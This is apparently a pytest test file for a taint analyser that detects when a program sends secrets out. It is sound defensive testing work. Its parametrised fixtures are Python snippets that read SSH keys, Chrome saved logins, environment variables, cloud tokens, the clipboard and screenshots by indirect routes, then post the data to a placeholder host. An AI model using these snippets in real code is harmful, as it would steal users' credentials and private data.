"""What is read other than by an open file is loot all the same; who only asks about a path reads nothing."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Taint

AWAY = "import urllib.request\nurllib.request.urlopen('https://c.example.invalid/', data={})\n"
KEY = "os.path.expanduser('~/.ssh/id_rsa')"
LOGINS = "os.path.expanduser('~/.config/google-chrome/Default/Login Data')"


def sent(text: str) -> set[str]:
    """All kinds of things that a program sends."""
    return {one.kind for flow in flows(text, Act.SEND, "wheel") for one in flow.carries}


@pytest.mark.parametrize(
    "text",
    [
        f"import os, reader\nb = reader.contents({KEY})\n",
        f"import os, pandas\nb = pandas.read_csv({KEY}).to_json()\n",
        f"import os, linecache\nb = ''.join(linecache.getlines({KEY}))\n",
        f"import os, fileinput\nb = ''.join(fileinput.input([{KEY}]))\n",
        f"import os, tokenize\nb = tokenize.open({KEY}).read()\n",
        f"import io, os\nb = io.FileIO({KEY}).readall()\n",
        f"import os\nf = os.open({KEY}, 0)\nb = bytearray(99)\nos.readv(f, [b])\n",
        f"import os\nb = bytearray(99)\nwith open({KEY}, 'rb') as f:\n    f.readinto(b)\n",
        f"import array, os\nb = array.array('B')\nb.frombytes(open({KEY}, 'rb').read())\n",
        f"import io, os, shutil\nb = io.BytesIO()\nshutil.copyfileobj(open({KEY}, 'rb'), b)\n",
        f"import os\nos.link({KEY}, '/tmp/held')\nb = open('/tmp/held', 'rb').read()\n",
        (
            f"import io, os, tarfile\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w') as t:\n"
            f"    t.addfile(tarfile.TarInfo('k'), open({KEY}, 'rb'))\n"
        ),
        "import netrc\nb = repr(netrc.netrc().hosts)\n",
        (
            "import glob, os\nos.chdir(os.path.expanduser('~/.ssh'))\n"
            "b = b''.join(open(one, 'rb').read() for one in glob.glob('*'))\n"
        ),
        (
            "from pathlib import Path\n"
            "b = b''.join(map(Path.read_bytes, Path('~').expanduser().glob('.ssh/*')))\n"
        ),
        f"import os, urllib.request as u\nb = u.urlopen('file://' + {KEY}).read()\n",
        (
            f"import ctypes, os\nl = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(99)\n"
            f"l.read(l.open({KEY}.encode(), 0), b, 99)\n"
        ),
        "import subprocess\nb = subprocess.check_output(['kubectl', 'config', 'view', '--raw'])\n",
    ],
)
def test_a_credential_file_is_read_by_whatever_function(text: str) -> None:
    assert Taint.SECRET in sent(text + AWAY.format("b"))


@pytest.mark.parametrize(
    "text",
    [
        (
            f"import os, sqlite3\nc = sqlite3.connect(':memory:')\n"
            f"c.execute('ATTACH DATABASE ? AS d', ({LOGINS},))\n"
            "b = repr(c.execute('select * from d.logins').fetchall())\n"
        ),
        (
            f"import os, sqlite3\nc = sqlite3.connect(':memory:')\n"
            f"sqlite3.connect({LOGINS}).backup(c)\nb = c.serialize()\n"
        ),
        (
            f"import os, sqlite3\nb = []\nc = sqlite3.connect({LOGINS})\n"
            "c.create_function('f', 1, lambda one: b.append(one))\nb = repr(b)\n"
        ),
        (
            f"import os, sqlite3\nb = []\nc = sqlite3.connect({LOGINS})\n"
            "c.row_factory = lambda cursor, row: b.append(row)\nb = repr(b)\n"
        ),
    ],
)
def test_a_database_of_a_browser_is_taken_in_by_another(text: str) -> None:
    assert Taint.BROWSER in sent(text + AWAY.format("b"))


@pytest.mark.parametrize(
    "text",
    [
        "import posix\nb = repr(posix.environ)\n",
        "import psutil\nb = repr([one.environ() for one in psutil.process_iter()])\n",
        "import wsgiref.handlers\nb = repr(wsgiref.handlers.read_environ())\n",
        "import dotenv\nb = repr(dotenv.dotenv_values())\n",
        "import subprocess\nb = subprocess.check_output('export -p', shell=True)\n",
        "import os\nmatch os.environ:\n    case {'A': a, **rest}:\n        b = repr(rest)\n",
        "import ctypes\nb = repr(ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ'))\n",
    ],
)
def test_the_environment_has_other_names(text: str) -> None:
    assert Taint.ENVIRONMENT in sent(text + AWAY.format("b"))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("b = subprocess.check_output(['xclip', '-o'])", Taint.CLIPBOARD),
        (
            "subprocess.run(['screencapture', '-x', '/tmp/x.png'])\nb = open('/tmp/x.png', 'rb').read()",
            Taint.SCREEN,
        ),
        ("b = subprocess.check_output(['git', 'config', '--list'])", Taint.HOST),
        (
            "b = subprocess.check_output(['gcloud', 'auth', 'print-access-token'])",
            Taint.METADATA,
        ),
    ],
)
def test_commands_print_more_than_their_words(text: str, kind: Taint) -> None:
    assert kind in sent(f"import subprocess\n{text}\n" + AWAY.format("b"))


@pytest.mark.parametrize(
    "text",
    [
        f"import os\nb = str(os.path.exists({KEY}))\n",
        f"import os, logging\nb = str(logging.info({KEY}))\n",
        (
            f"import os, argparse\np = argparse.ArgumentParser()\n"
            f"p.add_argument('--key', default={KEY})\nb = str(p.parse_args().size)\n"
        ),
        f"import os, paramiko\nb = paramiko.RSAKey.from_private_key_file({KEY}).get_base64()\n",
        f"import os, asyncssh\nb = asyncssh.connect('c.example.invalid', client_keys=[{KEY}])\n",
        "import pages\nb = pages.route('/wallets/<name>')\n",
        "import subprocess\nb = subprocess.check_output(['xclip', '-selection', 'c', '-i'])\n",
        "import netrc\nb = netrc.netrc().authenticators('c.example.invalid')[0]\n",
        "import dotenv\nb = dotenv.dotenv_values()['COLOUR']\n",
        "import os\nb = os.path.expandvars('$HOME/data')\n",
        "import subprocess\nb = subprocess.check_output(['git', 'config', '--get', 'core.editor'])\n",
    ],
)
def test_to_ask_about_a_path_is_not_to_read_it(text: str) -> None:
    found = sent(text + AWAY.format("b"))
    loot = {Taint.SECRET, Taint.ENVIRONMENT, Taint.CLIPBOARD, Taint.WALLET, Taint.HOST}
    assert not found & loot
